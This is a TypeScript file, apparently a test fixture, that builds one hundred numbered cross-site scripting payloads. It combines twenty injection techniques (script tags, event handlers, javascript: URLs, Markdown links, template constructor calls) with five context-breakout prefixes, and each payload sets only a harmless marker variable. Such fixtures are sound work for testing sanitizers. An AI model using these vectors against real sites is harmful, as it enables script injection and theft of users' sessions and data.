/** What a payload does when it runs, and what it leaves when it becomes a part of the page. */
const CALL = (n: number) => `window.pwned=${n}`;

/** Ways to make text run: in markup, in attributes, in addresses, in Markdown, in templates. */
const WAYS: ((n: number) => string)[] = [
  (n) => `<script data-pwn>${CALL(n)}</script>`,
  (n) => `<img data-pwn src=x onerror="${CALL(n)}">`,
  (n) => `<svg data-pwn onload="${CALL(n)}"></svg>`,
  (n) => `<svg data-pwn><animate onbegin="${CALL(n)}" attributeName=x dur=1s>`,
  (n) => `<iframe data-pwn srcdoc="<script>parent.${CALL(n)}</script>"></iframe>`,
  (n) => `<a data-pwn href="javascript:${CALL(n)}">home</a>`,
  (n) => `<details data-pwn open ontoggle="${CALL(n)}">`,
  (n) => `<math data-pwn><mtext><script>${CALL(n)}</script></mtext></math>`,
  (n) => `<input data-pwn autofocus onfocus="${CALL(n)}">`,
  (n) =>
    `<style data-pwn>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${CALL(n)}">`,
  (n) => `<object data-pwn data="javascript:${CALL(n)}"></object>`,
  (n) => `<form data-pwn><button formaction="javascript:${CALL(n)}">go</button></form>`,
  (n) => `<base data-pwn href="javascript:${CALL(n)}//">`,
  (n) => `<meta data-pwn http-equiv="refresh" content="0;url=javascript:${CALL(n)}">`,
  (n) => `javascript:${CALL(n)}//`,
  (n) => `[home](javascript:${CALL(n)})`,
  (n) => `![home](x"onerror="${CALL(n)})`,
  (n) => `{{constructor.constructor('${CALL(n)}')()}}`,
  (n) => `\${${CALL(n)}}`,
  (n) => `<template data-pwn><script>${CALL(n)}</script></template>`,
];

/** What stands before it: what a text would have to break out of. */
const BEFORE = ['', '">', "'>", '</textarea>', '--></title>'];

/** A hundred of them, each with its number. */
export const PAYLOADS: readonly string[] = BEFORE.flatMap((before, at) =>
  WAYS.map((way, n) => before + way(at * WAYS.length + n + 1)),
);
